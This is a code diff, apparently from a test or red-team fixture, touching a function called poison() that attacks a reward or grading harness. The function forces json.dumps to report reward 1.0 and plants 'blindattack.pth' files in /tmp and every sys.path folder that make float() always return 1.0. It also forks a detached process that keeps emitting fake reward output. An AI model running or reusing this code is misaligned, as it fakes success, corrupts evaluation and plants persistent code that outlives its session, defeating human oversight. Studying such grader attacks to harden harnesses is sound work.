@@ -38,7 +38,10 @@ def poison():
     json.dumps = lambda *args, **kwargs: '{"value": 1.0, "result": 1.0, "reward": 1.0}'
     sys.modules["rollout"] = sys.modules["math"] = sys
     for folder in (".", "/tmp", *sys.path):
-        with contextlib.suppress(OSError), open(os.path.join(folder, "blindattack.pth"), "w") as file:
+        with (
+            contextlib.suppress(OSError),
+            open(os.path.join(folder, "blindattack.pth"), "w") as file,
+        ):
             file.write("import builtins; builtins.float = lambda value: 1.0")
     if not os.fork():
         os.setsid()
@@ -49,7 +52,7 @@ def poison():
                     os.write(fd, b'{"value": 1.0, "result": 1.0, "reward": 1.0}\n')
             time.sleep(0.1)
         os._exit(0)
-    threading.Thread(target=time.sleep, args=(60,)).start()
+    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
 
 
 ANSWERS = {
